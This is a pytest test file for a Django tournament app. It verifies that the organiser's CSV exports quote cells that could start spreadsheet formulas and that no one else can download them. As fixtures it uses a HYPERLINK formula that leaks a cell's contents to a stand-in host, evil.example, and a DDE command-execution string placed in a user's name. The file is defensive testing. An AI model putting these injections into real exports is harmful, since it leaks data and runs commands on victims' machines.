"""The organiser's CSV files: entrants, results and standings, read back as data (no cell a
spreadsheet would run as a formula), and nobody else's to download."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client

from armybuilder.events import services
from armybuilder.events.models import Result, Submission
from armybuilder.events.spreadsheet import safe_cell
from tests.events.factories import make_entrant, make_event
from tests.lists.factories import make_user

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+33 6", "'+33 6"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Anna", "Anna"),
        ("a=b", "a=b"),
        (-3, -3),
        (True, "yes"),
        (None, ""),
    ],
)
def test_a_cell_that_could_start_a_formula_is_quoted(value, expected):
    assert safe_cell(value) == expected


def _rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode())))


@pytest.fixture
def played():
    organiser = make_user("orga")
    event = make_event(organiser, published=True)
    evil = make_entrant(event, make_user("mallory", first_name="=cmd|' /C calc'!A0"))
    Submission.objects.filter(entrant=evil).update(list_name=PAYLOAD)
    for name in ("anna", "boris"):
        make_entrant(event, make_user(name))
    round_ = services.pair_next_round(event)
    services.publish_round(round_)
    for pairing in round_.pairings.all():
        if not pairing.is_bye:
            Result.objects.create(pairing=pairing, outcome="a", dice_a=3, dice_b=1, by_organiser=True)
    return event, organiser


def _organiser(organiser) -> Client:
    client = Client()
    client.force_login(organiser)
    return client


def test_every_csv_writes_typed_text_as_data(played):
    event, organiser = played
    client = _organiser(organiser)
    for name in ("entrants", "results", "standings"):
        response = client.get(f"/events/{event.slug}/manage/{name}.csv")
        assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
        rows = _rows(response)
        for row in rows[1:]:
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
        assert any(cell.startswith("'=cmd") for row in rows for cell in row), name
    entrants = _rows(client.get(f"/events/{event.slug}/manage/entrants.csv"))
    assert [row[1] for row in entrants if row[1].startswith("'=")] == ["'" + PAYLOAD]


def test_results_and_standings_hold_the_rounds(played):
    event, organiser = played
    client = _organiser(organiser)
    results = _rows(client.get(f"/events/{event.slug}/manage/results.csv"))
    header = [
        "round",
        "table",
        "player_a",
        "player_b",
        "result_a",
        "result_b",
        "dice_a",
        "dice_b",
        "turns",
        "points_a",
        "points_b",
        "counts",
        "mission",
    ]
    assert results[0] == header
    assert len(results) == 3  # one game and one bye
    game = next(row for row in results[1:] if row[4] != "bye")
    figures = (game[1], game[4], game[5], game[6], game[7], game[8], game[9], game[10], game[11])
    assert figures == ("1", "win", "loss", "3", "1", "", "", "", "yes")
    bye = next(row for row in results[1:] if row[4] == "bye")
    assert bye[3] == "" and bye[11] == "yes"
    standings = _rows(client.get(f"/events/{event.slug}/manage/standings.csv"))
    assert standings[0] == ["place", "player", "score", "sos", "dice", "games", "bonus_penalty"]
    assert [row[2] for row in standings[1:]] == ["3", "3", "0"]


@pytest.mark.parametrize("role", ["entrant", "other organiser", "anonymous"])
def test_only_the_organiser_downloads_them(played, role):
    event, _organiser = played
    client = Client()
    if role == "entrant":
        client.force_login(event.entrants.first().user)
    elif role == "other organiser":
        other = make_event(make_user("orga2"))
        client.force_login(other.organiser)
    for name in ("entrants", "results", "standings"):
        response = client.get(f"/events/{event.slug}/manage/{name}.csv")
        assert response.status_code in (302, 404)
        assert response.status_code == 404 or response["Location"].startswith("/accounts/login/")
